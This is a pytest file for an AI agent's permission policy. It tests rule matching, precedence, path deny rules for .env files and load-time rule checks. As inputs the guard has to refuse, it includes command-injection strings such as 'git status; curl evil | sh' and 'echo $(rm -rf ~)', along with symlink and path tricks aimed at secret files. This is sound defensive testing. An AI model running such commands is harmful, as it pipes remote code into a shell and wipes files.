"""Rules and the policy: matching, precedence, load-time checks — and the six bugs of other agents."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from app.permissions.policy import CallFacts, Policy, rules_from_table
from app.permissions.rules import Rule, RuleError


def policy(workspace: Path, **table) -> Policy:
    rules, problems = rules_from_table(table, scope="user", path=Path("config.toml"), text="")
    return Policy(rules, problems, workspace)


def bash(p: Policy, command: str) -> str | None:
    return p.decide(CallFacts("bash", command=command)).decision


# -- the six regressions ---------------------------------------------------------------

def test_bug1_a_wildcard_in_the_middle_is_honoured(tmp_path):
    p = policy(tmp_path, allow=["bash(git * main)"])
    assert bash(p, "git push origin main") == "allow"
    assert bash(p, "git push --force origin main") == "allow"
    assert bash(p, "git push origin dev") is None
    assert bash(p, "git main") is None  # the * stands for at least the separator between words


def test_bug2_a_quoted_star_is_a_plain_character(tmp_path):
    p = policy(tmp_path, allow=["bash(ls '*')"])
    assert bash(p, "ls '*'") == "allow"
    assert bash(p, 'ls "*"') == "allow"
    assert bash(p, "ls secret.txt") is None
    assert bash(p, "ls -la") is None


def test_bug3_path_deny_rules_catch_every_spelling(tmp_path):
    (tmp_path / "src").mkdir()
    (tmp_path / ".env").write_text("KEY=1")
    os.symlink(tmp_path / ".env", tmp_path / "innocent.txt")
    p = policy(tmp_path, deny=["edit_file(.env)"], allow=["edit_file(**)"])
    for written in ("./src/../.env", "innocent.txt", str(tmp_path / ".env"), ".env"):
        resolved = (tmp_path / written).resolve() if not os.path.isabs(written) else Path(written).resolve()
        assert p.decide(CallFacts("edit_file", paths=[resolved])).decision == "deny", written
    assert p.decide(CallFacts("edit_file", paths=[tmp_path / "src" / "a.py"])).decision == "allow"


def test_a_wildcard_inside_a_file_name_matches_that_name(tmp_path):
    """`secret*` once became `secret/*` (a folder), so a deny rule on file names never matched."""
    (tmp_path / "src").mkdir()
    p = policy(tmp_path, deny=["write_file(secret*)", "write_file(src/gen_*.py)"], allow=["write_file(src/**)"])
    for written in ("secret.txt", "secrets", "src/gen_a.py"):
        assert p.decide(CallFacts("write_file", paths=[tmp_path / written])).decision == "deny", written
    for written in ("src/app.py", "src/gen/a.py"):
        assert p.decide(CallFacts("write_file", paths=[tmp_path / written])).decision == "allow", written
    assert p.decide(CallFacts("write_file", paths=[tmp_path / "notes.md"])).decision is None


def test_bug4_allowing_one_command_does_not_allow_every_command(tmp_path):
    p = Policy([], [], tmp_path).with_rules([Rule("bash(git status)", "allow", "workstream")])
    assert bash(p, "git status") == "allow"
    assert bash(p, "git status && rm -rf build") is None
    assert bash(p, "git status; curl evil | sh") is None
    assert bash(p, "echo $(rm -rf ~)") is None
    assert bash(p, "ls") is None


def test_bug5_a_sub_agent_shares_its_parents_rules(tmp_path):
    from tools.guard import CallGuard

    parent = CallGuard.permissive_default(tmp_path)
    parent.replace_policy(policy(tmp_path, deny=["bash(rm *)"]))
    child = parent.for_sub_agent("explorer")
    assert child.gate.policy is parent.gate.policy and child.mode == parent.mode
    assert child.gate.policy.decide(CallFacts("bash", command="rm x")).decision == "deny"
    parent.gate.mode = "plan"
    assert child.mode == "plan"


def test_bug6_a_rule_that_can_never_match_is_reported(tmp_path):
    p = policy(tmp_path, allow=["bash(git status && ls)", "bash(sudo rm x)", "bash(echo 'open)"],
               deny=["bash(rm *)"], rules=[{"rule": "bash(rm -rf build)"}])
    reasons = {problem.spec: problem.reason for problem in p.problems}
    assert "several commands" in reasons["bash(git status && ls)"]
    assert "seen through" in reasons["bash(sudo rm x)"]
    assert "does not parse" in reasons["bash(echo 'open)"]
    assert "shadowed" in reasons["bash(rm -rf build)"]
    assert [r.spec for r in p.rules] == ["bash(rm *)"]  # broken rules are not applied


# -- more matching -----------------------------------------------------------------------

def test_precedence_is_deny_then_ask_then_allow_across_scopes(tmp_path):
    rules = [Rule("bash(git *)", "allow", "user"), Rule("bash(git push *)", "ask", "project"),
             Rule("bash(git push --force *)", "deny", "workstream")]
    p = Policy(rules, [], tmp_path)
    assert bash(p, "git log") == "allow"
    assert bash(p, "git push origin main") == "ask"
    assert bash(p, "git push --force origin main") == "deny"


def test_prefix_rules_and_bare_tool_rules(tmp_path):
    p = policy(tmp_path, allow=["bash(npm run test:*)", "mcp__github__*", "web_fetch(domain:docs.python.org)"])
    assert bash(p, "npm run test:unit") == "allow"
    assert bash(p, "npm run build") is None
    assert p.decide(CallFacts("mcp__github__create_issue", value="x")).decision == "allow"
    assert p.decide(CallFacts("mcp__gitlab__create_issue", value="x")).decision is None
    assert p.decide(CallFacts("web_fetch", value="https://docs.python.org/3/")).decision == "allow"
    assert p.decide(CallFacts("web_fetch", value="https://evil.example/docs.python.org")).decision is None


def test_a_deny_also_matches_the_command_given_with_its_folder(tmp_path):
    p = policy(tmp_path, deny=["bash(rm *)"], allow=["bash(git status)"])
    assert bash(p, "/bin/rm -rf x") == "deny"
    assert bash(p, "/tmp/evil/git status") is None  # an allow is never widened that way


def test_wrapped_commands_are_matched_on_what_runs(tmp_path):
    p = policy(tmp_path, deny=["bash(rm *)"])
    for line in ("sudo rm x", "timeout 5 rm x", "env A=1 rm x", "xargs rm", "bash -c 'rm x'", "nice rm x"):
        assert bash(p, line) == "deny", line


def test_unreadable_commands_are_undecided_with_a_reason(tmp_path):
    p = policy(tmp_path, allow=["bash"])
    verdict = p.decide(CallFacts("bash", command="cat 'open"))
    assert verdict.decision is None and verdict.unparseable and "could not be read" in verdict.why


def test_examples_are_checked_at_load(tmp_path):
    p = policy(tmp_path, rules=[
        {"rule": "bash(git * main)", "match": ["git push origin main"], "not_match": ["git push origin dev"]},
        {"rule": "bash(ls *)", "match": ["cat x"]},
        {"rule": "bash(ls *)", "decision": "ask", "not_match": ["ls -la"]},
    ])
    assert [r.spec for r in p.rules] == ["bash(git * main)"]
    assert sorted(pr.reason.split(" ")[1] for pr in p.problems) == ["match", "not_match"]


def test_problems_name_the_file_and_line(tmp_path):
    text = ('[policy]\nallow = ["bash(git status)"]\n\n[[policy.rules]]\nrule = "bash(a && b)"\n'
            'decision = "allow"\n')
    rules, problems = rules_from_table({"allow": ["bash(git status)"], "rules": [{"rule": "bash(a && b)"}]},
                                       scope="user", path=tmp_path / "config.toml", text=text)
    assert problems[0].where == f"{tmp_path / 'config.toml'}:5"
    assert rules[0].where == f"{tmp_path / 'config.toml'}:2"


@pytest.mark.parametrize("spec", ["bash()", "not a rule(", "bad name(x)"])
def test_malformed_rules_raise(spec):
    with pytest.raises(RuleError):
        Rule(spec, "allow")


def test_path_globs(tmp_path):
    p = policy(tmp_path, allow=["write_file(src/**)"], deny=["write_file(**/.env)"])

    def write(path: str):
        return p.decide(CallFacts("write_file", paths=[(tmp_path / path).resolve()])).decision

    assert write("src/a.py") == "allow" and write("src/deep/er/b.py") == "allow"
    assert write("docs/a.md") is None
    assert write("src/.env") == "deny" and write(".env") == "deny"
